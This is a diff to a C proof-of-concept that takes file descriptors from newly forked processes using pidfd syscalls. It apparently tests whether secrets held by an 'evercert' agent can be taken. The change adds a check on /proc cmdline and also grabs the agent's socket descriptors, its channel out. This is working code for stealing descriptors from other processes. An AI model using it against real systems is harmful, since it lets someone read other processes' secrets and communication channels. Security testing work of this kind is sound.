@@ -1,5 +1,5 @@
 /* Runs as the web server's user and takes descriptors of memory files out of every process that has just been forked, as
-   whoever may run code as that user could. Prints "ready", then "PID NAME" of what it got; ends at the end of its input. With
+   whoever may run code as that user could, and the channel out of the agent. Prints "ready", then "PID NAME" of what it got; ends at the end of its input. With
    the arguments victim UID GID (as root) it is what a careless server would be: forks processes that become that user and may
    be looked into while they hold such a file. */
 #define _GNU_SOURCE
@@ -24,6 +24,18 @@ static int newest_process(void) {
   return last == NULL ? 0 : atoi(last);
 }
 
+/* The program that gets the secrets, in whatever state: whoever reaches into it before it protects itself has them later. */
+static int is_agent(int pid) {
+  char path[64];
+  char words[64] = "";
+  snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
+  FILE* file = fopen(path, "r");
+  if (file == NULL) return 0;
+  const size_t length = fread(words, 1, sizeof words - 1, file);
+  fclose(file);
+  return length > 9 && memcmp(words, "evercert", 9) == 0;
+}
+
 static void search(int pid) {
   const int process = (int)syscall(SYS_pidfd_open, pid, 0);
   if (process < 0) return;
@@ -37,7 +49,7 @@ static void search(int pid) {
     close(taken);
     if (length <= 0) continue;
     name[length] = '\0';
-    if (strstr(name, "memfd:evercert") != NULL) printf("%d %s\n", pid, name);
+    if (strstr(name, "memfd:evercert") != NULL || (strstr(name, "socket:") != NULL && is_agent(pid))) printf("%d %s\n", pid, name);
   }
   close(process);
 }
